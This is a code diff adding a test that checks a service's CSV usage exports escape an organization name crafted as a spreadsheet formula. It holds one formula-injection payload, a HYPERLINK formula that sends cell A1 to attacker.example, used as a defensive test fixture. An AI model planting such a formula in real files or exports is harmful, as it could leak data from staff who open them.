@@ -732,3 +732,22 @@ def test_cells_of_a_full_month_are_returned_exactly(serviced):
         [berth, str(truth[berth][0]), ""] for berth in sorted(truth)
     ]
     assert sum(row[0] for row in truth.values()) == 200
+
+
+def test_usage_exports_keep_an_organizations_name_from_running_as_a_formula(serviced, client):
+    """An organization named like a spreadsheet formula: operator staff who open the usage
+    export in a spreadsheet see the name as text."""
+    scenario, _developer, _definition, secret = serviced
+    hostile = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'
+    scenario.organization.name = hostile
+    scenario.organization.save(update_fields=["name"])
+    assert call(secret, {"period": MONTH}).status_code == 200
+
+    staff = staff_user("op")
+    exported = api(staff).get("/api/v1/services/usage/", HTTP_ACCEPT="text/csv")
+    client.force_login(staff)
+    downloaded = client.get("/services/usage.csv")
+    for body in (exported.content.decode(), downloaded.content.decode()):
+        rows = list(csv.reader(io.StringIO(body)))
+        assert rows[1][2] == "'" + hostile
+        assert rows[1][3:] == ["1", "0", "7", "0"]  # numbers stay numbers
